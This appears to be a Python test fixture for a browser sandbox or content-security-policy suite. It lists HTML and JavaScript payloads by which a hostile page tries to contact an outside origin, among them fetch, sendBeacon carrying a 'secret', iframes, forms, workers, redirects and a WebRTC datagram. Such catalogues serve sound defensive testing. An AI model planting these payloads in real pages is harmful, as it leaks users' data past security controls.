"""What a hostile page tries, to tell the outside something. {out} is the outside's origin."""

from __future__ import annotations

# Each asks for {out}/NAME, the trick's own name.
BY_REQUEST = {
    "fetch": "<script>fetch('{out}/fetch')</script>",
    "fetch-blind": "<script>fetch('{out}/fetch-blind',{{mode:'no-cors',method:'POST'}})</script>",
    "fetch-late": "<script>fetch('{out}/fetch-late',{{keepalive:true,mode:'no-cors'}})</script>",
    "request": "<script>x=new XMLHttpRequest();x.open('GET','{out}/request');x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{out}/beacon','secret')</script>",
    "events": "<script>new EventSource('{out}/events')</script>",
    "socket": "<script>new WebSocket('{ws}/socket')</script>",
    "image": "<img src='{out}/image'>",
    "image-set": "<img srcset='{out}/image-set 1x'>",
    "image-script": "<script>new Image().src='{out}/image-script'</script>",
    "svg": "<svg><image href='{out}/svg'/></svg>",
    "icon": "<link rel='icon' href='{out}/icon'><img src='{out}/icon'>",
    "script": "<script src='{out}/script'></script>",
    "module": "<script type='module'>import '{out}/module'</script>",
    "import": "<script>import('{out}/import')</script>",
    "style": "<link rel='stylesheet' href='{out}/style'>",
    "style-import": "<style>@import url('{out}/style-import')</style>",
    "background": "<body style=\"background:url('{out}/background')\">x</body>",
    "font": "<style>@font-face{{font-family:f;src:url('{out}/font')}}*{{font-family:f}}</style>x",
    "video": "<video src='{out}/video' autoplay muted></video>",
    "poster": "<video poster='{out}/poster'></video>",
    "audio": "<audio src='{out}/audio' preload='auto'></audio>",
    "track": (
        "<video src='data:video/mp4,' crossorigin><track default src='{out}/track'></video>"
        "<script>document.querySelector('track').track.mode='showing'</script>"
    ),
    "frame": "<iframe src='{out}/frame'></iframe>",
    "frame-moved": "<iframe id=f></iframe><script>f.src='{out}/frame-moved'</script>",
    "frame-location": (
        "<iframe name=g></iframe><script>window.g.location='{out}/frame-location'</script>"
    ),
    "object": "<object data='{out}/object' type='text/html'></object>",
    "embed": "<embed src='{out}/embed' type='text/html'>",
    "form": (
        "<form action='{out}/form' method='post'><input name=a value=b></form>"
        "<script>document.forms[0].submit()</script>"
    ),
    "form-frame": (
        "<iframe name=t></iframe><form action='{out}/form-frame' target=t></form>"
        "<script>document.forms[0].submit()</script>"
    ),
    "form-button": (
        "<form><button id=b formaction='{out}/form-button' formmethod=post>b</button></form>"
        "<script>b.click()</script>"
    ),
    "base": "<base href='{out}/'><img src='base'>",
    "ping": "<a id=p href='#x' ping='{out}/ping'>p</a><script>p.click()</script>",
    "prefetch": "<link rel='prefetch' href='{out}/prefetch'>",
    "preload": "<link rel='preload' as='fetch' crossorigin href='{out}/preload'>",
    "preload-module": "<link rel='modulepreload' href='{out}/preload-module'>",
    "worker": (
        "<script>new Worker(URL.createObjectURL(new Blob("
        "[\"fetch('{out}/worker',{{mode:'no-cors'}})\"])))</script>"
    ),
    "worker-import": (
        "<script>new Worker(URL.createObjectURL(new Blob("
        "[\"importScripts('{out}/worker-import')\"])))</script>"
    ),
    "service-worker": (
        "<script>navigator.serviceWorker.register('/say?type=text/javascript&body='+"
        "encodeURIComponent(\"fetch('{out}/service-worker',{{mode:'no-cors'}})\"))</script>"
    ),
    "inner-page": (
        "<iframe srcdoc=\"<script>fetch('{out}/inner-page',{{mode:'no-cors'}})</script>\"></iframe>"
    ),
    "inner-data": (
        "<iframe src=\"data:text/html,<script>fetch('{out}/inner-data',{{mode:'no-cors'}})"
        '</script>"></iframe>'
    ),
    "inner-blank": (
        "<iframe id=f></iframe><script>f.contentWindow.eval(\"fetch('{out}/inner-blank',"
        "{{mode:'no-cors'}})\")</script>"
    ),
    "inner-blob": (
        "<script>f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob("
        "[\"<script>fetch('{out}/inner-blob',{{mode:'no-cors'}})</scr\"+\"ipt>\"],"
        "{{type:'text/html'}}));document.documentElement.append(f)</script>"
    ),
    "evaluated": "<script>eval(\"fetch('{out}/evaluated',{{mode:'no-cors'}})\")</script>",
    "moved-image": "<img src='/say?status=302&h=Location:{out}/moved-image'>",
    "moved-fetch": (
        "<script>fetch('/say?status=307&h=Location:{out}/moved-fetch',{{mode:'no-cors'}})</script>"
    ),
    "moved-page": "<script>location='/say?status=302&h=Location:{out}/moved-page'</script>",
    "moved-form": (
        "<form method=post action='/say?status=307&h=Location:{out}/moved-form'></form>"
        "<script>document.forms[0].submit()</script>"
    ),
    "moved-later": "<script>location='/say?h=Refresh:0;url={out}/moved-later'</script>",
}

# No request is made: a datagram tells enough.
BY_DATAGRAM = {
    "webrtc": (
        "<script>c=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{port}'}}]}});"
        "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>"
    ),
}

# A page may leave for another address like a person who types it: no header of today holds that.
# The person sees the address change, and whatever comes next is no longer the app's page.
BY_LEAVING = {
    "leave": "<script>location='{out}/leave'</script>",
    "leave-meta": "<meta http-equiv='refresh' content='0;url={out}/leave-meta'>",
    "leave-link": "<a id=l href='{out}/leave-link'>l</a><script>l.click()</script>",
}
